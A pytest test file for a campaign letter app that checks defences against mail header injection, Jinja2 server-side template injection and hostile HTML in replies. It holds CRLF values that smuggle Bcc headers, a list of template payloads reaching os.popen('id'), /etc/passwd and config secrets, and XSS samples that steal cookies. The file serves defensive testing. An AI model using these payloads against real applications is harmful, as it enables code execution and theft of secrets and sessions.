"""Injection: no field becomes a mail header; organisers' template text never
reaches a Python object; reply HTML is sanitised before anyone sees it."""

from __future__ import annotations

import html as htmllib
from email import policy
from email.parser import BytesParser
from pathlib import Path

import pytest

from campaign.core.mail import OutgoingMessage
from campaign.core.mail.base import PermanentMailError, to_mime
from campaign.core.mail.outbox import OutboxBackend
from campaign.core.mail.smtp_backend import SMTPBackend
from campaign.letters import compose

from . import flow
from .htmlforms import forms_in, inline_problems

HOSTILE = "Eve\r\nBcc: x@example.org"
HEADERS = {"from", "to", "reply-to", "subject", "date", "message-id", "content-type",
           "content-transfer-encoding", "mime-version"}  # fmt: skip


def hostile_message(**overrides) -> OutgoingMessage:
    fields = dict(
        to_email="mp@parliament.example.org",
        to_name="MP\r\nBcc: x@example.org",
        from_email="letters@campaign.example.org",
        from_name=HOSTILE,
        reply_to_email="supporter@example.org",
        reply_to_name="S\nCc: y@example.org",
        subject="Release them\r\nBcc: x@example.org\r\n\r\nInjected body",
        text="The letter.\r\nBcc: not-a-header@example.org\r\n",
        custom_args={"letter_id": "7\r\nBcc: z@example.org"},
    )
    fields.update(overrides)
    return OutgoingMessage(**fields)


def _assert_no_injected_header(message) -> None:
    names = {name.lower() for name in message.keys()}
    assert "bcc" not in names and "cc" not in names
    assert names <= HEADERS | {"x-campaign-letter-id"}, names
    assert "Bcc: x@example.org" in message["Subject"]  # kept as text, on one line
    assert "\n" not in str(message["Subject"])


def test_to_mime_folds_line_breaks_in_names_and_subjects():
    mime = to_mime(hostile_message())
    reparsed = BytesParser(policy=policy.default).parsebytes(bytes(mime))
    _assert_no_injected_header(reparsed)
    assert reparsed["From"].addresses[0].addr_spec == "letters@campaign.example.org"
    assert [a.addr_spec for a in reparsed["To"].addresses] == ["mp@parliament.example.org"]
    assert reparsed.get_body(("plain",)).get_content().startswith("The letter.")


@pytest.mark.parametrize("field", ["to_email", "from_email", "reply_to_email"])
def test_an_address_with_a_line_break_is_refused(field):
    with pytest.raises(PermanentMailError):
        to_mime(hostile_message(**{field: "a@example.org\r\nBcc: x@example.org"}))


def test_outbox_backend_writes_no_injected_header(tmp_path):
    backend = OutboxBackend(str(tmp_path))
    backend.send(hostile_message())
    (path,) = tmp_path.glob("*.eml")
    message = BytesParser(policy=policy.default).parsebytes(path.read_bytes())
    _assert_no_injected_header(message)


def test_smtp_backend_sends_to_the_recipient_only(request):
    from campaign.devtools.smtp_server import SMTPLoopback

    server = SMTPLoopback().start()
    request.addfinalizer(server.stop)
    SMTPBackend(f"smtp://{server.host}:{server.port}", timeout=5).send(hostile_message())
    (received,) = server.wait_for(1, timeout=5)
    assert received.rcpt_tos == ["mp@parliament.example.org"]
    _assert_no_injected_header(received.message)
    assert b"\r\nBcc:" not in received.data.split(b"\r\n\r\n", 1)[0]


def test_a_supporter_cannot_put_a_line_break_in_the_name(seeded, client):
    rep = flow.representatives_of("IE")[0]
    response = flow.submit(client, "IE", [rep.id], flow.Details(name=HOSTILE))
    assert response.status_code == 200
    assert "Please keep this on one line." in response.get_data(as_text=True)


def test_an_imported_name_with_a_line_break_still_makes_one_header(seeded, client, drain, app):
    from campaign.core.extensions import db

    rep = flow.representatives_of("IE")[0]
    rep.name = "Aoife\r\nBcc: x@example.org"
    db.session.commit()
    flow.submit(client, "IE", [rep.id], flow.Details())
    drain()
    (confirmation,) = flow.outbox_messages(Path(app.config["OUTBOX_DIR"]))
    flow.confirm(client, flow.confirmation_link(confirmation))
    drain()
    letters = [
        m for m in flow.outbox_messages(Path(app.config["OUTBOX_DIR"])) if m["X-Campaign-Letter-Id"]
    ]
    assert len(letters) == 1
    names = {name.lower() for name in letters[0].keys()}
    assert "bcc" not in names
    assert letters[0]["To"].addresses[0].addr_spec == rep.email


# -- server-side template injection ---------------------------------------------------

# Known payloads: attribute walks, the usual globals, format strings, range abuse.
SSTI_PAYLOADS = [
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ().__class__.__bases__[0].__subclasses__() }}",
    "{{ [].__class__.__base__.__subclasses__() }}",
    "{{ (1).__class__.__base__.__subclasses__() }}",
    "{{ representative.__class__.__init__.__globals__ }}",
    "{{ supporter.name.__class__.__mro__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
    "{{ ''['__class__'] }}",
    "{{ figures['__class__'] }}",
    "{% set x = ''.__class__ %}{{ x }}",
    "{{ config }}",
    "{{ config.items() }}",
    "{{ config.SECRET_KEY }}",
    "{{ config['SECRET_KEY'] }}",
    "{{ self }}",
    "{{ self.__dict__ }}",
    "{{ self._TemplateReference__context }}",
    "{{ self._TemplateReference__context.cycler.__init__.__globals__.os }}",
    "{{ request }}",
    "{{ request.environ }}",
    "{{ request.application.__globals__.__builtins__ }}",
    "{{ url_for.__globals__ }}",
    "{{ get_flashed_messages.__globals__ }}",
    "{{ session }}",
    "{{ g }}",
    "{{ lipsum }}",
    "{{ lipsum.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum() }}",
    "{{ cycler }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('id').read() }}",
    "{{ dict }}",
    "{{ range }}",
    "{{ range.__class__ }}",
    "{{ range(10) }}",
    "{{ range(100)|list }}",
    "{% for i in range(100000000) %}x{% endfor %}",
    "{% for i in range(99999)|list %}{% for j in range(99999) %}x{% endfor %}{% endfor %}",
    "{{ '{0.__class__}'.format(1) }}",
    "{{ '{0.__globals__}'.format(cycler.__init__) }}",
    "{{ '{0}'.format(self) }}",
    "{{ '%s'|format(self) }}",
    "{{ '%s'|format(representative) }}",
    "{{ 'a'.format_map }}",
    "{{ '%(a)s' % representative }}",
    "{{ representative|pprint }}",
    "{{ representative|tojson }}",
    "{{ representative|xmlattr }}",
    "{{ representative.items() }}",
    "{{ representative.clear() }}",
    "{{ representative.update({'name': 1}) }}",
    "{{ representative|map(attribute='__class__')|list }}",
    "{% macro m() %}{% endmacro %}{{ m }}",
    "{{ caller }}",
    "{{ loop }}",
    "{% include '/etc/passwd' %}",
    "{% extends 'base.html' %}",
    "{% import 'base.html' as b %}",
    "{% from 'base.html' import x %}",
    "{% debug %}",
    "{{ 'x'|replace('x', 'xxxxxxxxxx')|replace('x', 'xxxxxxxxxx')|replace('x', 'xxxxxxxxxx') }}",
]
# Text that only evaluation could produce (never part of a payload itself).
LEAKS = ["<class", "<function", "<module", "<built-in", "<bound method", "<TemplateReference",
         "<Config", "<Namespace", "<Macro", "jinja2.", "dict_items", "uid=", "root:x:0",
         "SQLALCHEMY", "sqlite:///", "postgresql", "campaign-limits"]  # fmt: skip
CONTEXT = {
    "representative": {
        "title": "Dr",
        "name": "Anna",
        "body": "Seimas",
        "party": "P",
        "constituency": "C",
    },
    "supporter": {"name": "Maryja", "city": "Vilnius", "personal_paragraph": "Mine."},
    "figures": {"imprisoned": "1,200", "as_of": "March 2025"},
}


def _assert_no_leak(text: str, secret: str) -> None:
    text = htmllib.unescape(text)
    assert secret not in text
    for marker in LEAKS:
        assert marker not in text, marker


def test_payloads_never_reach_python_objects_in_the_letter_sandbox():
    # compose needs no app: a secret is only there to be looked for in the output.
    secret = "test-secret-" + "x" * 32
    refused = 0
    for payload in SSTI_PAYLOADS:
        try:
            output = compose.render_text(payload, {**CONTEXT, "secret": secret})
        except compose.RenderError as exc:
            _assert_no_leak(str(exc), secret)
            refused += 1
            continue
        _assert_no_leak(output, secret)
        assert len(output) < 10_000, payload
    assert refused == len(SSTI_PAYLOADS)  # the sandbox refuses every one of them


def test_ordinary_letters_still_render():
    text = (
        "{{ representative.title }} {{ representative.name|upper }}"
        "{% if supporter.city %}, {{ supporter.city }}{% endif %} {{ figures.imprisoned }}"
    )
    assert compose.render_text(text, CONTEXT) == "Dr ANNA, Vilnius 1,200"


EDITOR_ENDPOINTS = ("preview", "save_draft")


def _editor_routes(app) -> list:
    return [
        rule
        for rule in app.url_map.iter_rules()
        if rule.endpoint.startswith("organisers.")
        and "POST" in rule.methods
        and "template_id" in rule.arguments
        and any(word in rule.endpoint for word in EDITOR_ENDPOINTS)
    ]


def test_payloads_through_the_organisers_template_editor(seeded):
    routes = _editor_routes(seeded)
    edit = [r for r in seeded.url_map.iter_rules() if r.endpoint == "organisers.edit_template"]
    if not routes or not edit:
        pytest.skip("the organisers' template editor has no save or preview endpoint in this build")
    from campaign.core.extensions import db
    from campaign.models import LetterTemplate

    from .test_auth import login, make_user

    template = (
        db.session.execute(db.select(LetterTemplate).order_by(LetterTemplate.id)).scalars().first()
    )
    client = seeded.test_client()
    make_user("organiser@example.org", "organiser")
    assert login(client, "organiser@example.org").status_code == 302
    edit_url = edit[0].rule.replace("<int:template_id>", str(template.id))
    page = client.get(edit_url).get_data(as_text=True)
    forms = [
        f
        for f in forms_in(page)
        if f.method == "post" and any(x.kind == "textarea" for x in f.fields)
    ]
    assert forms, "the editor page has no form with a text area"
    base = forms[0].defaults()
    text_fields = [
        f.name for f in forms[0].fields if f.kind in ("textarea", "text") and f.name != "csrf_token"
    ]
    secret = seeded.config["SECRET_KEY"]
    for payload in SSTI_PAYLOADS:
        for rule in routes:
            url = rule.rule.replace("<int:template_id>", str(template.id))
            data = dict(base)
            for field in text_fields:
                data[field] = [payload]
            response = client.post(url, data=data)
            where = f"{payload!r} to {url}: {response.status_code}"
            assert response.status_code < 500, where
            _assert_no_leak(response.get_data(as_text=True), secret)
    # Nothing of it was published: supporters' letters are untouched.
    db.session.expire_all()
    version = db.session.get(LetterTemplate, template.id).published_version
    assert "__" not in version.body and "__" not in version.subject


# -- reply HTML -----------------------------------------------------------------------

HOSTILE_HTML = """<p>Thank you for your letter.</p>
<script>alert(document.cookie)</script>
<img src="https://tracker.example.net/pixel.gif" onerror="alert(1)">
<a href="javascript:alert(1)">click</a>
<a href="https://example.org/ok" onclick="steal()">ok</a>
<div style="background:url(https://tracker.example.net/x)">styled</div>
<iframe src="https://evil.example.net/"></iframe>
<svg onload="alert(1)"><script>alert(2)</script></svg>
<form action="https://evil.example.net/"><input name="password"></form>
<style>body{background:url(https://tracker.example.net/css)}</style>
<object data="https://evil.example.net/x.swf"></object>
<math><mi xlink:href="javascript:alert(1)">x</mi></math>
<p title="&quot; onmouseover=&quot;alert(1)">quoted</p>
"""


def test_sanitize_html_keeps_text_and_drops_everything_active():
    from campaign.tracking.inbound.sanitize import sanitize_html

    clean = sanitize_html(HOSTILE_HTML)
    assert "Thank you for your letter." in clean and "ok" in clean
    assert inline_problems(clean) == []
    lowered = clean.lower()
    for bad in (
        "<script",
        "<img",
        "<iframe",
        "<svg",
        "<form",
        "<style",
        "<object",
        "javascript:",
        "tracker.example.net",
        "evil.example.net",
        "onerror",
        "onclick",
        "onload",
    ):
        assert bad not in lowered, bad


def test_a_reply_with_hostile_html_is_shown_to_staff_sanitised(make_app):
    pytest.importorskip("tests.tracking_helpers")
    from . import tracking_helpers as th

    app = make_app(INBOUND_SECRET=th.INBOUND_SECRET, INBOUND_DOMAIN=th.INBOUND_DOMAIN)
    if not any(r.rule.startswith("/webhooks/sendgrid/inbound/") for r in app.url_map.iter_rules()):
        pytest.skip("no inbound webhook in this build")
    with app.app_context():
        from campaign.core.extensions import db
        from campaign.delivery.reply_tokens import reply_address
        from campaign.models.tracking import Reply
        from campaign.seed import seed_demo

        seed_demo()
        (letter,) = th.send_letters(th.reps_of("IE")[:1])
        address = reply_address(letter.id)
        raw = (
            f"From: Office <office@example.org>\r\nTo: {address}\r\nSubject: Re: your letter\r\n"
            "Message-ID: <r1@example.org>\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/alternative; boundary="b"\r\n\r\n'
            "--b\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nThank you for your letter.\r\n"
            "--b\r\nContent-Type: text/html; charset=utf-8\r\n\r\n"
            + HOSTILE_HTML.replace("\n", "\r\n")
            + "\r\n--b--\r\n"
        ).encode()
        body, ctype = th.raw_mode(raw, [address])
        client = app.test_client()
        assert client.post(th.inbound_url(), data=body, content_type=ctype).status_code == 200
        reply = db.session.execute(db.select(Reply)).scalar_one()
        assert "<script" not in reply.html.lower() and "onerror" not in reply.html.lower()
        from .test_auth import login, make_user

        make_user("staff@example.org", "staff")
        assert login(client, "staff@example.org").status_code == 302
        page = client.get(f"/staff/replies/{reply.id}")
        assert page.status_code == 200
        html = page.get_data(as_text=True)
        assert "Thank you for your letter." in html
        assert inline_problems(html) == []
        for bad in ("tracker.example.net", "evil.example.net", "javascript:"):
            assert bad not in html, bad
